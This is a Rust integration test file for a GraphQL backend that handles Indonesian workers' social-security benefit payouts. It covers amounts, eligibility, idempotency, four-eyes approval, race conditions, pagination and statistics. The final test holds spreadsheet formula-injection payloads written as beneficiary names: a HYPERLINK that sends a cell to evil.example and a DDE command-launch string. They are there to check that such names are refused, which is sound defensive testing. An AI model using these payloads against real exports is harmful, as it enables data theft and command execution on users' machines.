//! Benefit payouts: amounts, eligibility, idempotency, the state machine with four-eyes and
//! compare-and-set under real concurrency, queries and the payout figures of the statistics.
use crate::common;

use common::{TestApp, data, error_code, error_field};
use jaminan::auth::Role;
use jaminan::auth::keys::create_key;
use serde_json::{Value, json};

const SUBMIT: &str = "mutation($input: SubmitPayoutInput!) { submitPayout(input: $input) {
    id status amount benefit incidentOn coverage { id } worker { status diedOn } } }";

fn nik(serial: u32) -> String {
    format!("36031215058{serial:05}")
}

/// A worker of 36.03 covered from `starts_on` (open-ended) with the given monthly income.
async fn covered_worker(app: &TestApp, serial: u32, starts_on: &str, income: &str) -> (String, String) {
    let worker = app.register(&nik(serial), &format!("Worker {serial}"), "36.03", None, "FISHER").await;
    let response = app
        .gql_as(
            &app.admin,
            "mutation($input: EnrollInput!) { enrollWorker(input: $input) { id } }",
            json!({ "input": { "workerId": worker, "regencyCode": "36.03", "fundingSource": "APBD",
                "startsOn": starts_on, "declaredMonthlyIncome": income } }),
        )
        .await;
    (worker, data(&response)["enrollWorker"]["id"].as_str().unwrap().to_owned())
}

fn claim(worker: &str, benefit: &str, incident_on: &str) -> Value {
    json!({ "workerId": worker, "benefit": benefit, "incidentOn": incident_on,
        "beneficiaryName": "Ahli Waris", "beneficiaryRelationship": "SPOUSE" })
}

async fn submit(app: &TestApp, key: &str, input: Value) -> Value {
    app.gql_as(key, SUBMIT, json!({ "input": input })).await
}

async fn submitted(app: &TestApp, input: Value) -> Value {
    data(&submit(app, &app.admin, input).await)["submitPayout"].clone()
}

async fn act(app: &TestApp, key: &str, mutation: &str, id: &str, extra: &str) -> Value {
    let query = format!(
        "mutation($id: ID!) {{ {mutation}(id: $id{extra}) {{ id status verifiedAt approvedAt paidAt paidOn paymentReference rejectionReason }} }}"
    );
    app.gql_as(key, &query, json!({ "id": id })).await
}

async fn status_of(app: &TestApp, id: &str) -> String {
    let response = app.gql_as(&app.admin, "query($id: ID!) { payout(id: $id) { status } }", json!({ "id": id })).await;
    data(&response)["payout"]["status"].as_str().unwrap().to_owned()
}

backend_test!(death_benefits_follow_the_jkm_amount_in_force, |app: TestApp| async move {
    let (before, coverage) = covered_worker(&app, 1, "2019-01-01", "1000000").await;
    let (after, _) = covered_worker(&app, 2, "2019-01-01", "1000000").await;
    // Rp24m until 2019-12-01, Rp42m from 2019-12-02 (PP 82/2019).
    let payout = submitted(&app, claim(&before, "DEATH", "2019-12-01")).await;
    assert_eq!((payout["amount"].as_str(), payout["status"].as_str()), (Some("24000000"), Some("SUBMITTED")));
    assert_eq!(payout["coverage"]["id"], coverage.as_str());
    // The death is recorded with the claim: worker DECEASED, coverage closed on that day.
    assert_eq!(payout["worker"], json!({ "status": "DECEASED", "diedOn": "2019-12-01" }));
    let response = app
        .gql_as(
            &app.admin,
            "query($id: ID!) { worker(id: $id) { coverages { endsOn endReason } } }",
            json!({ "id": before }),
        )
        .await;
    assert_eq!(data(&response)["worker"]["coverages"][0], json!({ "endsOn": "2019-12-01", "endReason": "DECEASED" }));
    assert_eq!(submitted(&app, claim(&after, "DEATH", "2019-12-02")).await["amount"], "42000000");
});

backend_test!(work_accident_death_is_computed_from_the_declared_income, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "3000000").await;
    // 48 x 3,000,000 + 10,000,000 funeral + 12,000,000 periodic.
    let payout = submitted(&app, claim(&worker, "WORK_ACCIDENT_DEATH", "2024-03-01")).await;
    assert_eq!(payout["amount"], "166000000");
    assert_eq!(payout["worker"]["status"], "DECEASED");
});

backend_test!(claims_need_coverage_on_the_incident_date, |app: TestApp| async move {
    let (worker, coverage) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    let response = submit(&app, &app.admin, claim(&worker, "DEATH", "2022-12-31")).await;
    assert_eq!(error_code(&response), "NOT_COVERED");
    let ended = "mutation($id: ID!) { endCoverage(id: $id, endsOn: \"2023-06-30\", reason: EXPIRED) { id } }";
    data(&app.gql_as(&app.admin, ended, json!({ "id": coverage })).await);
    let mut care = claim(&worker, "WORK_ACCIDENT_CARE", "2023-07-01");
    care["amount"] = json!("1500000");
    assert_eq!(error_code(&submit(&app, &app.admin, care).await), "NOT_COVERED");
    let response = submit(&app, &app.admin, claim(&worker, "DEATH", "2023-07-01")).await;
    assert_eq!(error_code(&response), "NOT_COVERED");
    assert_eq!(app.count_rows("payout").await, 0);
    // Nothing was half-written: the worker is still alive.
    let response =
        app.gql_as(&app.admin, "query($id: ID!) { worker(id: $id) { status } }", json!({ "id": worker })).await;
    assert_eq!(data(&response)["worker"]["status"], "ALIVE");
});

backend_test!(client_amounts_are_required_exactly_where_the_server_cannot_compute_them, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    for amount in [Value::Null, json!("0"), json!("-5")] {
        let mut care = claim(&worker, "WORK_ACCIDENT_CARE", "2024-02-01");
        care["amount"] = amount.clone();
        let response = submit(&app, &app.admin, care).await;
        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "amount"), "{amount}");
    }
    let mut death = claim(&worker, "DEATH", "2024-02-01");
    death["amount"] = json!("42000000");
    let response = submit(&app, &app.admin, death).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "amount"));
    let mut care = claim(&worker, "WORK_ACCIDENT_CARE", "2024-02-01");
    care["amount"] = json!("1500000");
    assert_eq!(submitted(&app, care).await["amount"], "1500000");
});

backend_test!(work_accident_claims_lapse_after_five_years, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2015-01-01", "1000000").await;
    let mut care = claim(&worker, "WORK_ACCIDENT_CARE", "2019-06-01");
    care["amount"] = json!("1000000");
    let response = submit(&app, &app.admin, care).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "incidentOn"));
    let response = submit(&app, &app.admin, claim(&worker, "WORK_ACCIDENT_DEATH", "2019-06-01")).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "incidentOn"));
    // A JKM death benefit has no such limit.
    assert_eq!(submitted(&app, claim(&worker, "DEATH", "2019-06-01")).await["amount"], "24000000");
});

fn scholarship(worker: &str, child: &str, incident_on: &str) -> Value {
    json!({ "workerId": worker, "benefit": "SCHOLARSHIP", "incidentOn": incident_on, "amount": "1500000",
        "beneficiaryName": child, "beneficiaryRelationship": "CHILD" })
}

backend_test!(scholarships_follow_a_death_with_three_years_for_at_most_two_children, |app: TestApp| async move {
    // Alive: no scholarship.
    let (alive, _) = covered_worker(&app, 1, "2019-01-01", "1000000").await;
    let response = submit(&app, &app.admin, scholarship(&alive, "Anak", "2023-08-01")).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "benefit"));

    // A JKM death after 2 years of coverage: too short.
    let (short, _) = covered_worker(&app, 2, "2021-08-01", "1000000").await;
    submitted(&app, claim(&short, "DEATH", "2023-08-01")).await;
    let response = submit(&app, &app.admin, scholarship(&short, "Anak", "2023-08-01")).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "benefit"));

    // After 4 years: two children, not three; to children only; incident = the death.
    let (long, _) = covered_worker(&app, 3, "2019-08-01", "1000000").await;
    submitted(&app, claim(&long, "DEATH", "2023-08-01")).await;
    let mut spouse = scholarship(&long, "Istri", "2023-08-01");
    spouse["beneficiaryRelationship"] = json!("SPOUSE");
    let response = submit(&app, &app.admin, spouse).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "beneficiaryRelationship"));
    let response = submit(&app, &app.admin, scholarship(&long, "Anak Satu", "2023-07-01")).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "incidentOn"));
    let mut no_amount = scholarship(&long, "Anak Satu", "2023-08-01");
    no_amount["amount"] = Value::Null;
    assert_eq!(error_field(&submit(&app, &app.admin, no_amount).await), "amount");
    assert_eq!(submitted(&app, scholarship(&long, "Anak Satu", "2023-08-01")).await["benefit"], "SCHOLARSHIP");
    assert_eq!(submitted(&app, scholarship(&long, "Anak Dua", "2023-08-01")).await["status"], "SUBMITTED");
    let response = submit(&app, &app.admin, scholarship(&long, "Anak Tiga", "2023-08-01")).await;
    assert_eq!(error_code(&response), "CONFLICT");

    // After a work-accident death no 3-year minimum applies.
    let (accident, _) = covered_worker(&app, 4, "2023-01-01", "1000000").await;
    submitted(&app, claim(&accident, "WORK_ACCIDENT_DEATH", "2024-03-01")).await;
    assert_eq!(submitted(&app, scholarship(&accident, "Anak", "2024-03-01")).await["status"], "SUBMITTED");
});

backend_test!(one_death_benefit_per_worker_unless_rejected, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    let first = submitted(&app, claim(&worker, "DEATH", "2024-02-01")).await;
    assert_eq!(error_code(&submit(&app, &app.admin, claim(&worker, "DEATH", "2024-02-01")).await), "CONFLICT");
    let response = submit(&app, &app.admin, claim(&worker, "WORK_ACCIDENT_DEATH", "2024-02-01")).await;
    assert_eq!(error_code(&response), "CONFLICT");
    // The death is recorded: a claim on another date contradicts it (after it, the coverage has
    // ended: NOT_COVERED).
    let (other, _) = covered_worker(&app, 2, "2023-01-01", "1000000").await;
    let died = "mutation($id: ID!) { recordDeath(workerId: $id, diedOn: \"2024-01-10\") { id } }";
    data(&app.gql_as(&app.admin, died, json!({ "id": other })).await);
    let response = submit(&app, &app.admin, claim(&other, "DEATH", "2024-01-05")).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "incidentOn"));
    let response = submit(&app, &app.admin, claim(&other, "DEATH", "2024-01-11")).await;
    assert_eq!(error_code(&response), "NOT_COVERED");
    assert_eq!(submitted(&app, claim(&other, "DEATH", "2024-01-10")).await["status"], "SUBMITTED");

    let rejected =
        act(&app, &app.admin, "rejectPayout", first["id"].as_str().unwrap(), ", reason: \"wrong heir\"").await;
    assert_eq!(data(&rejected)["rejectPayout"]["status"], "REJECTED");
    assert_eq!(submitted(&app, claim(&worker, "DEATH", "2024-02-01")).await["status"], "SUBMITTED");
});

backend_test!(idempotent_retries_return_the_first_payout_even_when_racing, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    let mut input = claim(&worker, "WORK_ACCIDENT_CARE", "2024-02-01");
    input["amount"] = json!("1000000");
    input["idempotencyKey"] = json!("claim-0001");
    let first = submitted(&app, input.clone()).await;
    assert_eq!(submitted(&app, input.clone()).await["id"], first["id"]);
    assert_eq!(app.count_rows("payout").await, 1);
    // The same key for another worker is a client bug, not a retry: no payout of someone else.
    let (other_worker, _) = covered_worker(&app, 2, "2023-01-01", "1000000").await;
    let mut reused = input.clone();
    reused["workerId"] = json!(other_worker);
    let response = submit(&app, &app.admin, reused).await;
    assert_eq!(error_code(&response), "CONFLICT", "{response}");
    assert_eq!(app.count_rows("payout").await, 1);

    // 30 concurrent submissions of a new claim with one key: one payout, every answer names it.
    input["idempotencyKey"] = json!("claim-0002");
    let tasks: Vec<_> = (0..30)
        .map(|_| {
            let (app, input) = (app.clone(), input.clone());
            tokio::spawn(async move { submit(&app, &app.admin, input).await })
        })
        .collect();
    let mut ids = std::collections::HashSet::new();
    for task in tasks {
        let response = task.await.unwrap();
        ids.insert(data(&response)["submitPayout"]["id"].as_str().unwrap().to_owned());
    }
    assert_eq!(ids.len(), 1, "{ids:?}");
    assert_eq!(app.count_rows("payout").await, 2);
    // The key belongs to its API key: another key's identical key is another claim.
    assert_ne!(data(&submit(&app, &app.admin2, input).await)["submitPayout"]["id"], first["id"]);
});

backend_test!(payouts_walk_the_state_machine_with_four_eyes, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    let payout = submitted(&app, claim(&worker, "DEATH", "2024-02-01")).await;
    let id = payout["id"].as_str().unwrap();
    let (submitter, other) = (app.admin.as_str(), app.admin2.as_str());

    // From SUBMITTED only verify and reject exist.
    for (mutation, extra) in [("approvePayout", ""), ("markPayoutPaid", ", paymentReference: \"TRF-1\"")] {
        assert_eq!(error_code(&act(&app, other, mutation, id, extra).await), "INVALID_STATE", "{mutation}");
    }
    assert_eq!(error_code(&act(&app, submitter, "verifyPayout", id, "").await), "FORBIDDEN");
    assert_eq!(status_of(&app, id).await, "SUBMITTED");
    let verified = act(&app, other, "verifyPayout", id, "").await;
    assert!(data(&verified)["verifyPayout"]["verifiedAt"].is_string());
    assert_eq!(error_code(&act(&app, other, "verifyPayout", id, "").await), "INVALID_STATE");
    assert_eq!(error_code(&act(&app, submitter, "approvePayout", id, "").await), "FORBIDDEN");
    let approved = act(&app, other, "approvePayout", id, "").await;
    assert_eq!(data(&approved)["approvePayout"]["status"], "APPROVED");
    assert!(data(&approved)["approvePayout"]["approvedAt"].is_string());

    // Paying needs a reference and a paidOn between the incident and today.
    let bad = [
        (", paymentReference: \"  \"", "paymentReference"),
        (", paymentReference: \"TRF-1\", paidOn: \"2099-01-01\"", "paidOn"),
        (", paymentReference: \"TRF-1\", paidOn: \"2024-01-31\"", "paidOn"),
    ];
    for (extra, field) in bad {
        let response = act(&app, submitter, "markPayoutPaid", id, extra).await;
        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", field), "{extra}");
    }
    assert_eq!(status_of(&app, id).await, "APPROVED");
    let paid =
        act(&app, submitter, "markPayoutPaid", id, ", paymentReference: \"TRF-1\", paidOn: \"2024-02-10\"").await;
    let paid = &data(&paid)["markPayoutPaid"];
    assert_eq!((paid["status"].as_str(), paid["paidOn"].as_str()), (Some("PAID"), Some("2024-02-10")));
    assert_eq!(paid["paymentReference"], "TRF-1");
    assert!(paid["paidAt"].is_string() && paid["verifiedAt"].is_string() && paid["approvedAt"].is_string());
    // PAID is final.
    for (mutation, extra) in
        [("rejectPayout", ", reason: \"late\""), ("verifyPayout", ""), ("markPayoutPaid", ", paymentReference: \"X\"")]
    {
        assert_eq!(error_code(&act(&app, other, mutation, id, extra).await), "INVALID_STATE", "{mutation}");
    }
    assert_eq!(status_of(&app, id).await, "PAID");

    // Rejection needs a reason and ends the walk; paidOn defaults to today.
    let (second, _) = covered_worker(&app, 2, "2023-01-01", "1000000").await;
    let id = submitted(&app, claim(&second, "DEATH", "2024-02-01")).await["id"].as_str().unwrap().to_owned();
    let response = act(&app, other, "rejectPayout", &id, ", reason: \"\"").await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "reason"));
    let rejected = act(&app, other, "rejectPayout", &id, ", reason: \"heir not entitled\"").await;
    assert_eq!(data(&rejected)["rejectPayout"]["rejectionReason"], "heir not entitled");
    assert_eq!(error_code(&act(&app, other, "verifyPayout", &id, "").await), "INVALID_STATE");

    let (third, _) = covered_worker(&app, 3, "2023-01-01", "1000000").await;
    let id = submitted(&app, claim(&third, "DEATH", "2024-02-01")).await["id"].as_str().unwrap().to_owned();
    data(&act(&app, other, "verifyPayout", &id, "").await);
    data(&act(&app, other, "approvePayout", &id, "").await);
    let paid = act(&app, other, "markPayoutPaid", &id, ", paymentReference: \"TRF-3\"").await;
    let today = (chrono::Utc::now() + chrono::Duration::hours(7)).date_naive().to_string();
    assert_eq!(data(&paid)["markPayoutPaid"]["paidOn"], today.as_str());
});

/// Sends `n` copies of one transition at once; returns (successes, INVALID_STATE answers).
async fn race(app: &TestApp, mutation: &'static str, id: &str, n: usize) -> (usize, usize) {
    let tasks: Vec<_> = (0..n)
        .map(|_| {
            let (app, id) = (app.clone(), id.to_owned());
            tokio::spawn(async move { act(&app, &app.admin2, mutation, &id, "").await })
        })
        .collect();
    let (mut won, mut invalid) = (0, 0);
    for task in tasks {
        let response = task.await.unwrap();
        if response.get("errors").is_none() {
            won += 1;
        } else if error_code(&response) == "INVALID_STATE" {
            invalid += 1;
        } else {
            panic!("unexpected answer: {response}");
        }
    }
    (won, invalid)
}

backend_test!(concurrent_transitions_succeed_exactly_once, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    let id = submitted(&app, claim(&worker, "DEATH", "2024-02-01")).await["id"].as_str().unwrap().to_owned();
    let audit_before = app.count_rows("audit_log").await;
    assert_eq!(race(&app, "verifyPayout", &id, 50).await, (1, 49));
    assert_eq!(race(&app, "approvePayout", &id, 50).await, (1, 49));
    assert_eq!(status_of(&app, &id).await, "APPROVED");
    assert_eq!(app.count_rows("audit_log").await, audit_before + 2, "one audit entry per real transition");
});

backend_test!(payouts_are_listed_with_keyset_pages_and_filters, |app: TestApp| async move {
    let mut ids = Vec::new();
    for serial in 1..=7 {
        let (worker, _) = covered_worker(&app, serial, "2023-01-01", "1000000").await;
        let benefit = if serial % 2 == 0 { "DEATH" } else { "WORK_ACCIDENT_DEATH" };
        ids.push(submitted(&app, claim(&worker, benefit, "2024-02-01")).await["id"].as_str().unwrap().to_owned());
    }
    data(&act(&app, &app.admin, "rejectPayout", &ids[0], ", reason: \"duplicate\"").await);
    let page = "query($after: String, $before: String, $first: Int, $last: Int, $filter: PayoutFilter) {
        payouts(first: $first, after: $after, last: $last, before: $before, filter: $filter) {
            totalCount nodes { id } pageInfo { hasNextPage hasPreviousPage startCursor endCursor } } }";
    // Forward, newest first, 3 at a time.
    let (mut seen, mut after) = (Vec::new(), Value::Null);
    loop {
        let response = app.gql_as(&app.admin, page, json!({ "first": 3, "after": after })).await;
        let payouts = &data(&response)["payouts"];
        assert_eq!(payouts["totalCount"], 7);
        seen.extend(payouts["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap().to_owned()));
        if payouts["pageInfo"]["hasNextPage"] == false {
            break;
        }
        after = payouts["pageInfo"]["endCursor"].clone();
    }
    let newest_first: Vec<String> = ids.iter().rev().cloned().collect();
    assert_eq!(seen, newest_first);
    // Backward from the end.
    let response = app.gql_as(&app.admin, page, json!({ "last": 3 })).await;
    let nodes: Vec<&str> =
        data(&response)["payouts"]["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap()).collect();
    assert_eq!(nodes, [ids[2].as_str(), ids[1].as_str(), ids[0].as_str()]);
    assert_eq!(data(&response)["payouts"]["pageInfo"]["hasPreviousPage"], true);
    let before = data(&response)["payouts"]["pageInfo"]["startCursor"].clone();
    let response = app.gql_as(&app.admin, page, json!({ "last": 2, "before": before })).await;
    let nodes: Vec<&str> =
        data(&response)["payouts"]["nodes"].as_array().unwrap().iter().map(|n| n["id"].as_str().unwrap()).collect();
    assert_eq!(nodes, [ids[4].as_str(), ids[3].as_str()]);
    // Filters, in the page and the count.
    for (filter, count) in [
        (json!({ "benefit": "DEATH" }), 3),
        (json!({ "status": "REJECTED" }), 1),
        (json!({ "status": "SUBMITTED", "benefit": "WORK_ACCIDENT_DEATH" }), 3),
        (json!({ "regencyCode": "36.03" }), 7),
        (json!({ "regencyCode": "36.71" }), 0),
        (json!({ "submittedFrom": "2099-01-01" }), 0),
    ] {
        let response = app.gql_as(&app.admin, page, json!({ "first": 100, "filter": filter })).await;
        assert_eq!(data(&response)["payouts"]["totalCount"], count, "{filter}");
        assert_eq!(data(&response)["payouts"]["nodes"].as_array().unwrap().len(), count as usize, "{filter}");
    }
    let response = app.gql_as(&app.admin, page, json!({ "first": 101 })).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "first"));
    let response = app.gql_as(&app.admin, page, json!({ "first": 2, "after": "bm90IGEgY3Vyc29y" })).await;
    assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "after"));
    // payout(id) and Worker.payouts.
    let response = app
        .gql_as(&app.admin, "query($id: ID!) { payout(id: $id) { status worker { payouts { id } } } missing: payout(id: \"999999\") { id } }", json!({ "id": ids[0] }))
        .await;
    assert_eq!(data(&response)["payout"]["status"], "REJECTED");
    assert_eq!(data(&response)["payout"]["worker"]["payouts"][0]["id"], ids[0].as_str());
    assert!(data(&response)["missing"].is_null());
});

/// Moves a payout's verification back in time (the API cannot) to make it overdue.
async fn verified_days_ago(app: &TestApp, id: &str, days: i64) {
    use sea_orm::ConnectionTrait;
    let at = chrono::Utc::now() - chrono::Duration::days(days);
    let sql = jaminan::db::statement(
        app.state.db.get_database_backend(),
        "UPDATE payout SET verified_at = ? WHERE id = ?",
        vec![at.into(), id.parse::<i64>().unwrap().into()],
    );
    app.state.db.execute_raw(sql).await.unwrap();
}

backend_test!(overdue_death_payouts_are_listed_longest_waiting_first, |app: TestApp| async move {
    let mut ids = Vec::new();
    for serial in 1..=3 {
        let (worker, _) = covered_worker(&app, serial, "2023-01-01", "1000000").await;
        let id = submitted(&app, claim(&worker, "DEATH", "2024-02-01")).await["id"].as_str().unwrap().to_owned();
        data(&act(&app, &app.admin2, "verifyPayout", &id, "").await);
        ids.push(id);
    }
    verified_days_ago(&app, &ids[0], 10).await;
    verified_days_ago(&app, &ids[1], 20).await;
    // ids[2] was verified just now: within the deadline.
    let response = app.gql_as(&app.admin, "{ overduePayouts { id overdueWorkingDays } }", json!({})).await;
    let overdue = data(&response)["overduePayouts"].as_array().unwrap().clone();
    let listed: Vec<&str> = overdue.iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(listed, [ids[1].as_str(), ids[0].as_str()]);
    assert!(overdue.iter().all(|p| p["overdueWorkingDays"].as_i64().unwrap() > 0));
    let response = app.gql_as(&app.admin, "{ overduePayouts(regencyCode: \"36.71\") { id } }", json!({})).await;
    assert_eq!(data(&response)["overduePayouts"], json!([]));
    let response = app.gql_as(&app.admin, "{ overduePayouts(first: 0) { id } }", json!({})).await;
    assert_eq!(error_field(&response), "first");
});

backend_test!(statistics_count_payouts_where_the_coverage_was_paid, |app: TestApp| async move {
    // A worker living in Kota Bandung but covered by Kabupaten Tangerang: payouts count in 36.03.
    let worker = app.register("3273011505850001", "Commuter", "32.73", None, "MOTORCYCLE_TAXI").await;
    app.enroll(&worker, "36.03", "2023-01-01", None).await;
    let paid = submitted(&app, claim(&worker, "DEATH", "2024-02-01")).await["id"].as_str().unwrap().to_owned();
    data(&act(&app, &app.admin2, "verifyPayout", &paid, "").await);
    data(&act(&app, &app.admin2, "approvePayout", &paid, "").await);
    data(&act(&app, &app.admin, "markPayoutPaid", &paid, ", paymentReference: \"TRF\", paidOn: \"2024-03-01\"").await);
    let (pending, _) = covered_worker(&app, 2, "2023-01-01", "1000000").await;
    submitted(&app, claim(&pending, "DEATH", "2024-02-01")).await;

    let stats = "query($area: String, $year: Int!) { coverageStats(areaCode: $area, year: $year) {
        payoutsPaid payoutsPaidAmount payoutsPending } }";
    let submitted_year = (chrono::Utc::now() + chrono::Duration::hours(7)).format("%Y").to_string();
    let submitted_year: i32 = submitted_year.parse().unwrap();
    for area in [json!("36.03"), json!("36"), Value::Null] {
        let response = app.gql(stats, json!({ "area": area, "year": 2024 })).await;
        let figures = &data(&response)["coverageStats"];
        assert_eq!(
            (figures["payoutsPaid"].as_i64(), figures["payoutsPaidAmount"].as_str()),
            (Some(1), Some("42000000")),
            "{area}"
        );
        // Pending counts by the year of submission (today), not of the incident.
        let response = app.gql(stats, json!({ "area": area, "year": submitted_year })).await;
        assert_eq!(data(&response)["coverageStats"]["payoutsPending"], 1, "{area}");
    }
    for area in [json!("32.73"), json!("32"), json!("36.71")] {
        let response = app.gql(stats, json!({ "area": area, "year": 2024 })).await;
        assert_eq!(data(&response)["coverageStats"]["payoutsPaid"], 0, "{area}");
        assert_eq!(data(&response)["coverageStats"]["payoutsPaidAmount"], "0", "{area}");
    }
});

backend_test!(a_claim_goes_under_a_coverage_of_the_callers_scope_holding_on_the_day, |app: TestApp| async move {
    // Moved from Kota Tangerang (36.71) to Kota Tangerang Selatan (36.74), whose coverage holds on
    // the day; the older enrollment in 36.71 was never ended.
    let worker = app.register("3671011505850001", "Pindahan", "36.74", None, "STREET_VENDOR").await;
    let older = app.enroll(&worker, "36.71", "2022-01-01", None).await;
    let newer = app.enroll(&worker, "36.74", "2023-01-01", None).await;
    let db = &app.state.db;
    let (supervisor_3674, _) =
        create_key(db, "supervisor 36.74", Role::Supervisor, Some("36.74".into())).await.unwrap();
    let (operator_3671, _) = create_key(db, "operator 36.71", Role::Operator, Some("36.71".into())).await.unwrap();
    let care = |incident_on: &str| {
        let mut care = claim(&worker, "WORK_ACCIDENT_CARE", incident_on);
        care["amount"] = json!("1500000");
        care
    };
    let payout = data(&submit(&app, &supervisor_3674, care("2024-06-20")).await)["submitPayout"].clone();
    assert_eq!(payout["coverage"]["id"], newer.as_str());
    // A key reaching both (an admin) takes the oldest, as before.
    assert_eq!(submitted(&app, care("2024-06-20")).await["coverage"]["id"], older.as_str());
    // Before 36.74's coverage began only 36.71's holds: not 36.74's to claim.
    let response = submit(&app, &supervisor_3674, care("2022-06-20")).await;
    assert_eq!(error_code(&response), "FORBIDDEN", "{response}");
    // 36.71 covers the day too, but the worker lives elsewhere and that coverage has no say over
    // an incident it was enrolled after (the rule on manufactured reach holds).
    let response = submit(&app, &operator_3671, care("2024-06-20")).await;
    assert_eq!(error_code(&response), "FORBIDDEN", "{response}");

    // The issue's case: the death benefit, claimed by 36.74 and counted there.
    let death =
        data(&submit(&app, &supervisor_3674, claim(&worker, "DEATH", "2024-06-21")).await)["submitPayout"].clone();
    assert_eq!((death["coverage"]["id"].as_str(), death["amount"].as_str()), (Some(newer.as_str()), Some("42000000")));
    let listed = "{ payouts(filter: { regencyCode: \"36.74\", benefit: DEATH }) { totalCount } }";
    assert_eq!(data(&app.gql_as(&app.admin, listed, json!({})).await)["payouts"]["totalCount"], 1);
});

backend_test!(heirs_names_that_start_like_a_formula_are_refused, |app: TestApp| async move {
    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
    for name in [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", " @SUM(1+1)"] {
        let mut input = claim(&worker, "DEATH", "2024-02-01");
        input["beneficiaryName"] = json!(name);
        let response = submit(&app, &app.admin, input).await;
        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "beneficiaryName"), "{name}");
    }
    assert_eq!(app.count_rows("payout").await, 0);
});
